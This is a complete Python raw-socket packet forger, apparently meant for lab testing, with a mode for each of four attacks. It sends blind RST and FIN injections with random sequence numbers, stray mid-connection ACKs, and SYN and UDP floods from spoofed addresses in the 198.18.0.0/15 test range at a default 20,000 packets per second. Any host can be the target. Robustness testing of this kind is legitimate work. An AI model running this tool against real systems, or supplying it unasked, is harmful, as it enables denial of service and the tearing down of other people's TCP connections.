"""Packets that no honest machine sends, made by hand, sent by a raw socket, so many and no more.

It runs on a machine by itself (`python3 -c <this text> WHAT HOST PORT ...`), as root, and
needs nothing but Python's library.

    forger.py blind HOST PORT --source ADDRESS:PORT    what a stranger can do who knows the ports
                                                       of a connection and no number of it: RST,
                                                       RST with ACK and FIN with random numbers,
                                                       and then SYN
    forger.py stray HOST PORT --source ADDRESS:PORT    segments from the middle of a connection
    forger.py syn HOST PORT --count N --rate R         a flood of SYNs from invented sources
    forger.py udp HOST PORT --count N --rate R         likewise of datagrams

Invented sources are of 198.18.0.0/15, which is there for tests (RFC 2544). At its end it prints how
many packets it has sent.
"""

from __future__ import annotations

import argparse
import random
import socket
import struct
import time
from collections.abc import Iterator

FIN, SYN, RST, ACK = 0x01, 0x02, 0x04, 0x10
BLIND_FLAGS = (RST, RST | ACK, FIN | ACK)
FIRST_INVENTED = (198 << 24) | (18 << 16)
INVENTED = 1 << 17
BURST = 64

Endpoint = tuple[bytes, int]
"""An address of four bytes, and a port."""


def checksum(data: bytes) -> int:
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def ip_packet(source: bytes, target: bytes, protocol: int, payload: bytes) -> bytes:
    """The kernel fills in id and checksum."""
    length = 20 + len(payload)
    head = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0x4000, 64, protocol, 0)
    return head + source + target + payload


def tcp_packet(source: Endpoint, target: Endpoint, flags: int, sequence: int, acked: int) -> bytes:
    ports = (source[1], target[1])
    words = struct.pack("!HHIIBBHHH", *ports, sequence, acked, 5 << 4, flags, 64240, 0, 0)
    pseudo = source[0] + target[0] + struct.pack("!HH", socket.IPPROTO_TCP, len(words))
    words = words[:16] + struct.pack("!H", checksum(pseudo + words)) + words[18:]
    return ip_packet(source[0], target[0], socket.IPPROTO_TCP, words)


def datagram(source: Endpoint, target: Endpoint, text: bytes) -> bytes:
    """Without a checksum, which UDP allows."""
    head = struct.pack("!HHHH", source[1], target[1], 8 + len(text), 0)
    return ip_packet(source[0], target[0], socket.IPPROTO_UDP, head + text)


def invented() -> Endpoint:
    address = FIRST_INVENTED + random.randrange(INVENTED)
    return struct.pack("!I", address), random.randrange(1024, 65536)


def blind(source: Endpoint, target: Endpoint, count: int) -> Iterator[bytes]:
    for number in range(count):
        flags = BLIND_FLAGS[number % len(BLIND_FLAGS)]
        yield tcp_packet(source, target, flags, random.getrandbits(32), random.getrandbits(32))
    yield tcp_packet(source, target, SYN, random.getrandbits(32), 0)


def stray(source: Endpoint, target: Endpoint, count: int) -> Iterator[bytes]:
    for _ in range(count):
        yield tcp_packet(source, target, ACK, random.getrandbits(32), random.getrandbits(32))


def flood(what: str, target: Endpoint, count: int) -> Iterator[bytes]:
    for _ in range(count):
        if what == "syn":
            yield tcp_packet(invented(), target, SYN, random.getrandbits(32), 0)
        else:
            yield datagram(invented(), target, b"q\n")


def endpoint(text: str) -> Endpoint:
    address, _, port = text.rpartition(":")
    return socket.inet_aton(address), int(port)


def main() -> None:
    parser = argparse.ArgumentParser(description="packets made by hand")
    parser.add_argument("what", choices=("blind", "stray", "syn", "udp"))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--source", type=endpoint, default=None)
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--rate", type=float, default=20_000.0, help="a second")
    arguments = parser.parse_args()
    target = (socket.inet_aton(arguments.host), arguments.port)
    if arguments.what == "blind":
        packets = blind(arguments.source, target, arguments.count)
    elif arguments.what == "stray":
        packets = stray(arguments.source, target, arguments.count)
    else:
        packets = flood(arguments.what, target, arguments.count)
    sent, start = 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for packet in packets:
            raw.sendto(packet, (arguments.host, 0))
            sent += 1
            if sent % BURST == 0:
                time.sleep(max(start + sent / arguments.rate - time.monotonic(), 0))
    print(sent)


if __name__ == "__main__":
    main()
